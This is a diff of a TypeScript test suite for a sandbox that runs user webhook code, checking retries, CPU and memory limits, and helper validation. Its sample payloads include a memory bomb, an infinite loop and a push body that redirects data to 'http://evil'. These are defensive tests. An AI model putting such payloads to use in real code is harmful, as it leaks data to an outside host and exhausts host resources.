@@ -9,7 +9,7 @@ function recorder(statuses: number[] = [202]) {
   let i = 0
   const helpers: HostHelpers = {
     sendWebhook: async (url, entities) => {
-      sent.push({ url, entities })
+      sent.push({ url, entities: JSON.parse(entities.json) as unknown[] })
       const status = statuses[Math.min(i++, statuses.length - 1)]!
       return { ok: status >= 200 && status < 300, status }
     },
@@ -20,13 +20,14 @@ function recorder(statuses: number[] = [202]) {
 }
 
 const ENTITIES = [{ id: 'cmp_1', name: 'R 10k' }]
+const j = (entities: unknown[]) => ({ json: JSON.stringify(entities), count: entities.length })
 const CONFIG = { url: 'http://127.0.0.1:9/hook' }
 
 describe('sandbox', () => {
   it('runs the default code: one send when the receiver accepts', async () => {
     const sandbox = await createSandbox({ code: DEFAULT_WEBHOOK_CODE })
     const r = recorder([202])
-    await sandbox.push(ENTITIES, CONFIG, r.helpers)
+    await sandbox.push(j(ENTITIES), CONFIG, r.helpers)
     expect(r.sent).toEqual([{ url: CONFIG.url, entities: ENTITIES }])
     sandbox.dispose()
   })
@@ -34,7 +35,7 @@ describe('sandbox', () => {
   it('retries 3 times with 1000 ms then 2000 ms, then fails carrying the status', async () => {
     const sandbox = await createSandbox({ code: DEFAULT_WEBHOOK_CODE })
     const r = recorder([500])
-    await expect(sandbox.push(ENTITIES, CONFIG, r.helpers)).rejects.toMatchObject({ message: 'receiver answered 500 after 3 attempts', status: 500 })
+    await expect(sandbox.push(j(ENTITIES), CONFIG, r.helpers)).rejects.toMatchObject({ message: 'receiver answered 500 after 3 attempts', status: 500 })
     expect(r.sent).toHaveLength(3)
     expect(r.slept).toEqual([1000, 2000])
     sandbox.dispose()
@@ -45,7 +46,7 @@ describe('sandbox', () => {
     const sandbox = await createSandbox({ code })
     const a = recorder()
     const b = recorder()
-    await Promise.all([sandbox.push([{ id: 'a' }], CONFIG, a.helpers), sandbox.push([{ id: 'b' }, { id: 'c' }], CONFIG, b.helpers)])
+    await Promise.all([sandbox.push(j([{ id: 'a' }]), CONFIG, a.helpers), sandbox.push(j([{ id: 'b' }, { id: 'c' }]), CONFIG, b.helpers)])
     expect(a.sent[0]!.entities).toEqual([{ id: 'a' }])
     expect(b.sent[0]!.entities).toHaveLength(2)
     expect(a.logs).toEqual(['batch 1 {"first":"a"}'])
@@ -55,7 +56,7 @@ describe('sandbox', () => {
   it('reports a syntax error and a missing push function', async () => {
     await expect(createSandbox({ code: 'function push( {' })).rejects.toThrow(/SyntaxError|Unexpected/)
     const sandbox = await createSandbox({ code: 'const x = 1' })
-    await expect(sandbox.push(ENTITIES, CONFIG, recorder().helpers)).rejects.toThrow(/defines no function named push/)
+    await expect(sandbox.push(j(ENTITIES), CONFIG, recorder().helpers)).rejects.toThrow(/defines no function named push/)
     sandbox.dispose()
   })
 
@@ -71,7 +72,7 @@ describe('sandbox', () => {
       it(`fails on ${name} and touches nothing`, async () => {
         const sandbox = await createSandbox({ code: `async function push(entities, config, helpers) { ${body} }` })
         const r = recorder()
-        await expect(sandbox.push(ENTITIES, CONFIG, r.helpers)).rejects.toThrow()
+        await expect(sandbox.push(j(ENTITIES), CONFIG, r.helpers)).rejects.toThrow()
         expect(r.sent).toEqual([])
         sandbox.dispose()
       })
@@ -79,30 +80,30 @@ describe('sandbox', () => {
 
     it('stops an infinite loop at the CPU limit', async () => {
       const sandbox = await createSandbox({ code: 'async function push() { for (;;) {} }', cpuTimeoutMs: 200 })
-      await expect(sandbox.push(ENTITIES, CONFIG, recorder().helpers)).rejects.toThrow(/timed out/i)
+      await expect(sandbox.push(j(ENTITIES), CONFIG, recorder().helpers)).rejects.toThrow(/timed out/i)
       sandbox.dispose()
     })
 
     it('stops an infinite loop after an await with the wall-clock limit', async () => {
       const sandbox = await createSandbox({ code: 'async function push(e, c, h) { await h.sleep(1); for (;;) {} }', cpuTimeoutMs: 200, wallTimeoutMs: 500 })
-      await expect(sandbox.push(ENTITIES, CONFIG, recorder().helpers)).rejects.toThrow(/did not finish within 500 ms/)
-      await expect(sandbox.push(ENTITIES, CONFIG, recorder().helpers)).rejects.toThrow(/sandbox was stopped/)
+      await expect(sandbox.push(j(ENTITIES), CONFIG, recorder().helpers)).rejects.toThrow(/did not finish within 500 ms/)
+      await expect(sandbox.push(j(ENTITIES), CONFIG, recorder().helpers)).rejects.toThrow(/sandbox was stopped/)
     })
 
     it('fails a push that never resolves', async () => {
       const sandbox = await createSandbox({ code: 'function push() { return new Promise(() => {}) }', wallTimeoutMs: 300 })
-      await expect(sandbox.push(ENTITIES, CONFIG, recorder().helpers)).rejects.toThrow(/did not finish/)
+      await expect(sandbox.push(j(ENTITIES), CONFIG, recorder().helpers)).rejects.toThrow(/did not finish/)
     })
 
     it('stops a memory bomb at the memory limit', async () => {
       const sandbox = await createSandbox({ code: 'async function push() { const a = []; for (;;) a.push(new Array(1e6).fill(1)) }', memoryMb: 32, cpuTimeoutMs: 10_000 })
-      await expect(sandbox.push(ENTITIES, CONFIG, recorder().helpers)).rejects.toThrow(/memory/i)
+      await expect(sandbox.push(j(ENTITIES), CONFIG, recorder().helpers)).rejects.toThrow(/memory/i)
     })
 
     it('refuses an unbounded sleep and a send that is not an array', async () => {
       const sandbox = await createSandbox({ code: 'async function push(e, c, h) { if (c.mode === "sleep") await h.sleep(1e12); else await h.sendWebhook(c.url, "all of it") }' })
-      await expect(sandbox.push(ENTITIES, { mode: 'sleep' }, recorder().helpers)).rejects.toThrow(/helpers.sleep/)
-      await expect(sandbox.push(ENTITIES, { url: 'x' }, recorder().helpers)).rejects.toThrow(/must be an array/)
+      await expect(sandbox.push(j(ENTITIES), { mode: 'sleep' }, recorder().helpers)).rejects.toThrow(/helpers.sleep/)
+      await expect(sandbox.push(j(ENTITIES), { url: 'x' }, recorder().helpers)).rejects.toThrow(/must be an array/)
       sandbox.dispose()
     })
 
@@ -114,7 +115,7 @@ describe('sandbox', () => {
         const code = 'async function push(e, c, h) { try { await h.sleep(-1) } catch (err) { h.log("caught " + err.message) } await h.sendWebhook(c.url, "nope") }'
         const sandbox = await createSandbox({ code })
         const r = recorder()
-        await expect(sandbox.push(ENTITIES, CONFIG, r.helpers)).rejects.toThrow(/must be an array/)
+        await expect(sandbox.push(j(ENTITIES), CONFIG, r.helpers)).rejects.toThrow(/must be an array/)
         expect(r.logs[0]).toMatch(/^caught helpers.sleep/)
         await new Promise((resolve) => setTimeout(resolve, 50))
         expect(unhandled).toEqual([])
@@ -127,7 +128,7 @@ describe('sandbox', () => {
     it('cannot change the config the host passed', async () => {
       const sandbox = await createSandbox({ code: 'async function push(e, c, h) { c.url = "http://evil"; await h.sendWebhook(c.url, e) }' })
       const r = recorder()
-      await sandbox.push(ENTITIES, CONFIG, r.helpers)
+      await sandbox.push(j(ENTITIES), CONFIG, r.helpers)
       expect(r.sent.map((s) => s.url)).toEqual(['http://127.0.0.1:9/hook'])
       expect(CONFIG.url).toBe('http://127.0.0.1:9/hook')
       sandbox.dispose()
